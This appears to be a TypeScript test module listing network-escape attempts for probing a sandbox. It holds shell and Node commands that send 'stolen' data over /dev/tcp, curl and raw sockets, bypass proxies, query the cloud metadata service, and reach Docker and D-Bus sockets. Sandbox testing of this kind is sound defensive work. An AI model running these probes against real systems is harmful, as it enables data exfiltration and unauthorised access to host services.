import { type Attempt, type Ground, says, shell } from '../attempt.ts';

const sh = (
  name: string,
  command: (ground: Ground) => string,
  succeeded?: Attempt['succeeded'],
): Attempt => shell('network', name, command, succeeded);

/** Ways out of the machine and into other services on it. */
export const network: readonly Attempt[] = [
  sh('loopback by the shell', ({ tcpPort }) => `echo stolen > /dev/tcp/127.0.0.1/${tcpPort}`),
  sh(
    'loopback by its other names',
    ({ tcpPort }) =>
      `for h in localhost 127.1 127.0.0.2 0.0.0.0 2130706433; do bash -c "echo stolen > /dev/tcp/$h/${tcpPort}"; done`,
  ),
  sh('loopback over IPv6', ({ tcpPort }) => `echo stolen > /dev/tcp/::1/${tcpPort}`),
  sh('loopback by UDP', ({ udpPort }) => `echo stolen > /dev/udp/127.0.0.1/${udpPort}`),
  sh(
    'loopback by Node',
    ({ tcpPort }) =>
      `node -e "const s=require('net').connect(${tcpPort},'127.0.0.1',()=>s.end('stolen'));s.on('error',e=>console.log(e.code))"`,
  ),
  sh(
    'a request by Node’s fetch',
    ({ tcpPort }) =>
      `node -e "fetch('http://127.0.0.1:${tcpPort}/stolen').then(r=>console.log('got',r.status),e=>console.log(e.message))"`,
  ),
  sh('a request by curl', ({ tcpPort }) => `curl -sS -m 5 http://127.0.0.1:${tcpPort}/stolen`),
  sh(
    'a request by curl without its proxy',
    ({ tcpPort }) => `curl -sS -m 5 --noproxy '*' http://127.0.0.1:${tcpPort}/stolen`,
  ),
  sh(
    'a request through the sandbox’s own proxy',
    ({ tcpPort }) =>
      `for v in "$HTTP_PROXY" "$HTTPS_PROXY" "$ALL_PROXY" "$http_proxy"; do [ -n "$v" ] && curl -sS -m 5 -x "$v" http://127.0.0.1:${tcpPort}/stolen; done; true`,
  ),
  sh(
    'a tunnel through the sandbox’s own proxy',
    ({ tcpPort }) =>
      `for v in "$HTTP_PROXY" "$HTTPS_PROXY" "$ALL_PROXY"; do [ -n "$v" ] && curl -sS -m 5 -p -x "$v" https://127.0.0.1:${tcpPort}/; done; true`,
  ),
  sh(
    'the metadata service',
    () => 'curl -sS -m 3 --noproxy "*" http://169.254.169.254/latest/meta-data/ && echo reached',
    says('reached'),
  ),
  sh(
    'a host in the local network',
    () => 'bash -c "echo x > /dev/tcp/192.168.0.1/80" && echo reached',
    says('reached'),
  ),
  sh(
    'a public address',
    () => 'bash -c "echo x > /dev/tcp/1.1.1.1/80" && echo reached',
    says('reached'),
  ),
  sh(
    'a name is looked up',
    () => "node -e \"require('dns').lookup('example.com',(e,a)=>console.log(a?'resolved':'no'))\"",
    says('resolved'),
  ),
  sh(
    'a name is looked up directly',
    () =>
      "node -e \"const d=require('dns');const r=new d.Resolver({timeout:1000,tries:1});r.setServers(['1.1.1.1']);r.resolve4('example.com',(e,a)=>console.log(a?'resolved':'no'))\"",
    says('resolved'),
  ),
  sh(
    'a packet socket',
    () =>
      'python3 -c "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print(\'opened\')"',
    says('opened'),
  ),
  sh(
    'a raw socket',
    () =>
      'python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); print(\'opened\')"',
    says('opened'),
  ),
  sh(
    'a unix socket of the host',
    ({ socket }) =>
      `node -e "const s=require('net').connect('${socket}',()=>s.end('stolen'));s.on('error',e=>console.log(e.code))"`,
  ),
  sh(
    'a unix socket through a link',
    ({ socket }) =>
      `ln -sf '${socket}' sock; node -e "const s=require('net').connect('sock',()=>s.end('stolen'));s.on('error',e=>console.log(e.code))"`,
  ),
  sh(
    'Docker and D-Bus',
    () =>
      "for s in /var/run/docker.sock /run/dbus/system_bus_socket /run/user/*/bus; do [ -S $s ] && node -e \"const s=require('net').connect(process.argv[1],()=>{console.log('reached');s.end()});s.on('error',()=>{})\" $s; done; true",
    says('reached'),
  ),
  sh(
    'an abstract unix socket',
    ({ tcpPort }) =>
      `python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('\\0tandem-escape-${tcpPort}'); s.send(b'stolen')"`,
  ),
  sh(
    'a server for others to come in',
    ({ tcpPort }) =>
      `node -e "require('net').createServer().listen(${tcpPort},'127.0.0.1',()=>{console.log('listening');process.exit()}).on('error',e=>console.log(e.code))"`,
  ),
];
